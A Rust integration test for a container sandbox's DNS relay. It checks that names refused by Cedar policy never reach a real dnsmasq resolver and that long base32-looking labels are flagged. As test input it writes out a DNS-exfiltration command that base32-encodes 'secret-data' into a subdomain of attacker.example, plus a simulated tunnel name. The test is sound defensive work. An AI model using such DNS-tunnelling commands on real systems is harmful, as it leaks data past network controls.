//! No exfiltration through the resolver: real Docker, sessions of the
//! test-debian image whose resolver (`leash --dns`) is a real dnsmasq on the
//! host side of the session's network, logging every query that reaches it.
//! A name the policy refuses on every port is answered by the relay and
//! never reaches dnsmasq; an allowed one does, and one whose labels look
//! like data is flagged on its way.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use leash_testkit::{Stack, eventually, require_docker, require_image};
use serde_json::Value;

const IMAGE: &str = "leash-test-debian:latest";
/// What dnsmasq answers for `allowed.test`, and for every name under `example`.
const ALLOWED_ADDRESS: &str = "198.51.100.10";
const EXAMPLE_ADDRESS: &str = "198.51.100.20";

/// dnsmasq on the host, stopped when dropped.
struct Dnsmasq {
    child: Child,
    log: PathBuf,
}

impl Drop for Dnsmasq {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Dnsmasq {
    /// Listens on `address` port 53 (where a container's `--dns` resolver
    /// is asked), answers from its own configuration only, and logs every
    /// query to a file under `dir`.
    fn start(dir: &Path, address: &str) -> Dnsmasq {
        let log = dir.join("dnsmasq.log");
        let child = Command::new("dnsmasq")
            .arg("--keep-in-foreground")
            .args(["--no-resolv", "--no-hosts", "--no-poll", "--bind-interfaces", "--port=53", "--pid-file="])
            .arg(format!("--listen-address={address}"))
            .args(["--user=root", "--log-queries"])
            .arg(format!("--log-facility={}", log.display()))
            .arg(format!("--address=/allowed.test/{ALLOWED_ADDRESS}"))
            .arg(format!("--address=/example/{EXAMPLE_ADDRESS}"))
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .expect("run dnsmasq");
        let mut d = Dnsmasq { child, log };
        eventually(Duration::from_secs(10), "dnsmasq listening", || {
            if let Ok(Some(status)) = d.child.try_wait() {
                let mut why = String::new();
                if let Some(mut e) = d.child.stderr.take() {
                    let _ = std::io::Read::read_to_string(&mut e, &mut why);
                }
                panic!(
                    "dnsmasq exited ({status}) instead of serving {address}:53: {why} \
                     (`ss -lunp 'sport = :53'` shows what holds the port)"
                );
            }
            d.queries().contains("started, version").then_some(())
        });
        d
    }

    /// The query lines logged so far, in lower case.
    fn queries(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default().to_ascii_lowercase()
    }
}

/// Whether dnsmasq is here: fails in CI (scripts/setup.sh installs it),
/// skips elsewhere, saying why.
fn require_dnsmasq(test: &str) -> bool {
    let here = Command::new("dnsmasq")
        .arg("--version")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if here {
        return true;
    }
    assert!(
        !leash_testkit::must_run(),
        "{test}: dnsmasq is missing (scripts/setup.sh installs dnsmasq-base), and CI must run it"
    );
    #[allow(clippy::print_stderr, reason = "the skip is reported where test output goes")]
    {
        eprintln!("skipping {test}: dnsmasq is missing (scripts/setup.sh installs dnsmasq-base)");
    }
    false
}

/// A raw query in Python, inside the session: to the container's first
/// resolver over UDP and over TCP (the redirect sends both to the relay),
/// reporting the rcode, the flags, the answers and whether the id and the
/// question came back; then `getaddrinfo` on the same name.
const ASK: &str = r#"
import socket, struct, sys
name, qtype = sys.argv[1], int(sys.argv[2])
server = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
q = struct.pack(">HHHHHH", 0x4c45, 0x0100, 1, 0, 0, 0)
for label in name.split("."):
    q += bytes([len(label)]) + label.encode()
q += b"\0" + struct.pack(">HH", qtype, 1)
def report(how, r):
    echoed = r[:2] == q[:2] and r[12:len(q)] == q[12:]
    print("%s rcode=%d qr=%d rd=%d ra=%d an=%d echoed=%s" % (how, r[3] & 15, r[2] >> 7, r[2] & 1, r[3] >> 7, struct.unpack(">H", r[6:8])[0], echoed))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.sendto(q, (server, 53))
report("udp", s.recv(4096))
c = socket.create_connection((server, 53), timeout=5)
c.sendall(struct.pack(">H", len(q)) + q)
n = struct.unpack(">H", c.recv(2))[0]
r = b""
while len(r) < n:
    r += c.recv(n - len(r))
report("tcp", r)
try:
    socket.getaddrinfo(name, 443)
    print("getaddrinfo=resolved")
except socket.gaierror as e:
    print("getaddrinfo=failed", e.errno)
"#;

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// `sh -c script` in the container: exit code, stdout and stderr.
fn exec(container: &str, script: &str) -> (i32, String) {
    let out = Command::new("docker").args(["exec", container, "sh", "-c", script]).output().unwrap();
    (out.status.code().unwrap_or(-1), format!("{}{}", text(&out.stdout), text(&out.stderr)))
}

/// Starts a session with `policy` and `--dns gw`; waits until it runs:
/// the client, its id and its container.
fn start_session(stack: &Stack, policy: &Path, gw: &str, seen: &mut Vec<String>) -> (Child, String, String) {
    let log = std::fs::File::create(stack.root().join(format!("leash-{}.log", seen.len()))).unwrap();
    let child = stack
        .leash(&["--image", IMAGE, "--policy", policy.to_str().unwrap(), "--dns", gw, "--", "sleep", "300"])
        .stdout(Stdio::null())
        .stderr(log)
        .spawn()
        .unwrap();
    let (id, container) = eventually(Duration::from_secs(30), "the session running", || {
        let v: Value = serde_json::from_slice(&stack.leashctl(&["sessions", "--json"]).stdout).ok()?;
        v.as_array()?.iter().find_map(|s| {
            let (id, container) = (s["id"].as_str()?, s["container"].as_str()?);
            (s["state"] == "running" && !seen.iter().any(|x| x == id)).then(|| (id.to_owned(), container.to_owned()))
        })
    });
    seen.push(id.clone());
    (child, id, container)
}

/// The session's events with `action` on `name`, once there is one.
fn events_on(stack: &Stack, session: &str, action: &str, name: &str) -> Vec<Value> {
    eventually(Duration::from_secs(10), &format!("a {action} event on {name}"), || {
        let found: Vec<Value> = stack
            .events()
            .into_iter()
            .filter(|e| e["session"] == session && e["action"] == action && e["resource"] == name)
            .collect();
        (!found.is_empty()).then_some(found)
    })
}

fn end(mut client: Child, container: &str) {
    let _ = client.kill();
    let _ = client.wait();
    let _ = Command::new("docker").args(["rm", "-f", container]).output();
}

#[test]
fn refused_names_never_reach_the_resolver() {
    let test = "refused_names_never_reach_the_resolver";
    if !require_docker(test) || !require_image(test, IMAGE) || !require_dnsmasq(test) {
        return;
    }
    let mut stack = Stack::new();
    let gw = leash_testkit::host_address();
    let dnsmasq = Dnsmasq::start(stack.root(), &gw);
    stack.start_leashd_for_sessions();
    stack.wait_healthy(Duration::from_secs(10));
    let files = "@id(\"files\") permit (principal, action in [Action::\"FileOpen\", Action::\"FileOpenReadOnly\", \
                 Action::\"FileOpenReadWrite\", Action::\"ProcessExec\"], resource);\n";
    let allow_list = stack.root().join("allow-list.cedar");
    std::fs::write(
        &allow_list,
        format!(
            "{files}@id(\"allowed\") permit (principal, action == Action::\"NetworkConnect\", resource in Host::\"allowed.test\");\n\
             @id(\"git-over-ssh\") permit (principal, action == Action::\"NetworkConnect\", resource == Host::\"git.test:22\");\n\
             @id(\"no-forbidden\") forbid (principal, action == Action::\"NetworkConnect\", resource in Net::DnsZone::\"forbidden.test\");\n"
        ),
    )
    .unwrap();
    let ask = stack.project().join("ask.py");
    std::fs::write(&ask, ASK).unwrap();
    let ask = |container: &str, name: &str, qtype: u16| {
        exec(container, &format!("python3 {} {name} {qtype}", ask.display())).1
    };
    let mut seen = Vec::new();

    // An allow-list of names, enforced; REFUSED by default.
    let (client, id, container) = start_session(&stack, &allow_list, &gw, &mut seen);
    let (_, resolv) = exec(&container, "cat /etc/resolv.conf");
    assert!(resolv.contains(&format!("nameserver {gw}")), "--dns names the container's resolver: {resolv}");
    let (code, out) = exec(&container, "getent hosts allowed.test");
    assert_eq!((code, out.split_whitespace().next()), (0, Some(ALLOWED_ADDRESS)), "{out}");
    assert_eq!(
        ask(&container, "git.test", 1).lines().next(),
        Some("udp rcode=5 qr=1 rd=1 ra=1 an=0 echoed=True"),
        "dnsmasq refuses what it does not know, once asked"
    );
    let blob = text(&Command::new("sh").args(["-c", "echo secret-data | base32 | tr -d ="]).output().unwrap().stdout)
        .trim()
        .to_owned();
    let exfil = format!("{blob}.attacker.example");
    // Events name it as the relay reads it: in lower case.
    let exfil_name = exfil.to_ascii_lowercase();
    let (code, out) = exec(&container, "getent hosts $(echo secret-data | base32 | tr -d =).attacker.example");
    assert_eq!(code, 2, "not found: {out}");
    let out = ask(&container, &exfil, 1);
    assert!(out.contains("udp rcode=5 qr=1 rd=1 ra=1 an=0 echoed=True"), "{out}");
    assert!(out.contains("tcp rcode=5 qr=1 rd=1 ra=1 an=0 echoed=True"), "{out}");
    assert!(out.contains("getaddrinfo=failed"), "{out}");
    let out = ask(&container, "Mixed.Case.Attacker.Example", 16);
    assert!(out.contains("udp rcode=5 qr=1 rd=1 ra=1 an=0 echoed=True"), "the question as asked, case kept: {out}");
    let out = ask(&container, "www.forbidden.test", 28);
    assert!(out.contains("udp rcode=5"), "{out}");
    // The allowed name was asked; no attacker.example query ever was.
    let log = eventually(Duration::from_secs(5), "dnsmasq logging the allowed query", || {
        let log = dnsmasq.queries();
        log.contains("query[a] allowed.test from").then_some(log)
    });
    assert!(log.contains("query[a] git.test from"), "{log}");
    assert!(!log.contains("attacker.example"), "a refused name reached the resolver:\n{log}");
    assert!(!log.contains("forbidden.test"), "a refused name reached the resolver:\n{log}");
    // Refusals are events, naming the name and the deciding policies.
    let refused = events_on(&stack, &id, "dns.refused", &exfil_name);
    let e = &refused[0];
    assert_eq!((e["kind"].as_str(), e["decision"].as_str()), (Some("connect"), Some("deny")), "{e}");
    assert_eq!(e["details"]["answered"], "REFUSED", "{e}");
    assert_eq!(e["details"]["mechanism"], "leash-proxy (DNS relay)", "{e}");
    assert!(refused.iter().any(|e| e["details"]["qtype"] == "A"), "{refused:?}");
    let forbidden = &events_on(&stack, &id, "dns.refused", "www.forbidden.test")[0];
    assert_eq!(forbidden["policy_ids"], serde_json::json!(["no-forbidden"]), "{forbidden}");
    assert_eq!(forbidden["details"]["qtype"], "AAAA", "{forbidden}");
    // A forwarded answer is still learned.
    let answer = &events_on(&stack, &id, "dns.answer", "allowed.test")[0];
    assert!(answer["details"]["addresses"].as_str().is_some_and(|a| a.contains(ALLOWED_ADDRESS)), "{answer}");
    assert!(
        !stack.events().iter().any(|e| e["action"] == "dns.suspicious" && e["session"] == id.as_str()),
        "nothing suspicious was forwarded"
    );
    end(client, &container);

    // The system's configuration asks for NXDOMAIN.
    std::fs::write(stack.root().join("etc-leash").join("config.toml"), "[leash]\ndns_refusal = \"nxdomain\"\n")
        .unwrap();
    let (client, id, container) = start_session(&stack, &allow_list, &gw, &mut seen);
    let out = ask(&container, &exfil, 1);
    assert!(out.contains("udp rcode=3 qr=1 rd=1 ra=1 an=0 echoed=True"), "{out}");
    assert!(out.contains("tcp rcode=3 qr=1 rd=1 ra=1 an=0 echoed=True"), "{out}");
    assert!(out.contains("getaddrinfo=failed"), "{out}");
    let (code, out) = exec(&container, "getent hosts $(echo secret-data | base32 | tr -d =).attacker.example");
    assert_eq!(code, 2, "not found: {out}");
    assert_eq!(events_on(&stack, &id, "dns.refused", &exfil_name)[0]["details"]["answered"], "NXDOMAIN");
    let (code, _) = exec(&container, "getent hosts allowed.test");
    assert_eq!(code, 0);
    assert!(!dnsmasq.queries().contains("attacker.example"), "a refused name reached the resolver");
    end(client, &container);
    std::fs::write(stack.root().join("etc-leash").join("config.toml"), "").unwrap();

    // A zone allowed: a long base32 label goes through, flagged.
    let zone = stack.root().join("zone.cedar");
    std::fs::write(
        &zone,
        format!("{files}@id(\"example\") permit (principal, action == Action::\"NetworkConnect\", resource in Host::\"*.example\");\n"),
    )
    .unwrap();
    let (client, id, container) = start_session(&stack, &zone, &gw, &mut seen);
    let long =
        text(&Command::new("sh").args(["-c", "head -c 35 /dev/urandom | base32 | tr -d ="]).output().unwrap().stdout)
            .trim()
            .to_ascii_lowercase();
    let tunnel = format!("{long}.tunnel.example");
    let (code, out) = exec(&container, &format!("getent hosts {tunnel}"));
    assert_eq!((code, out.split_whitespace().next()), (0, Some(EXAMPLE_ADDRESS)), "forwarded and answered: {out}");
    assert!(dnsmasq.queries().contains(&format!("] {tunnel} from")), "the flagged name was forwarded");
    let flagged = &events_on(&stack, &id, "dns.suspicious", &tunnel)[0];
    assert!(!matches!(flagged["decision"].as_str(), Some("allow" | "deny")), "no decision: {flagged}");
    assert!(flagged["details"]["reason"].as_str().is_some_and(|r| r.contains("56 characters (over 40)")), "{flagged}");
    let (code, _) = exec(&container, "getent hosts www.tunnel.example");
    assert_eq!(code, 0);
    // Shadow mode forwards what it would refuse, and says so.
    let switched = stack.leashctl(&["policy", "mode", "shadow", "--session", &id]);
    assert!(switched.status.success(), "{}", text(&switched.stderr));
    let shadowed = eventually(Duration::from_secs(10), "shadow mode in the relay", || {
        let out = ask(&container, "shadowed.test", 1);
        out.contains("udp rcode=5 qr=1 rd=1 ra=1 an=0 echoed=True")
            .then_some(())
            .and_then(|()| dnsmasq.queries().contains("query[a] shadowed.test from").then_some(out))
    });
    assert!(shadowed.contains("getaddrinfo=failed"), "dnsmasq does not know it: {shadowed}");
    let events = events_on(&stack, &id, "dns.refused", "shadowed.test");
    let e = events.iter().find(|e| e["would_deny"] == true).expect("the shadow refusal's event");
    assert_eq!(e["decision"], "allow", "{e}");
    assert_eq!(e["details"]["answered"], "forwarded (shadow mode)", "{e}");
    assert!(
        !stack.events().iter().any(|e| e["action"] == "dns.suspicious" && e["resource"] == "www.tunnel.example"),
        "a plain name is not flagged"
    );
    end(client, &container);
}
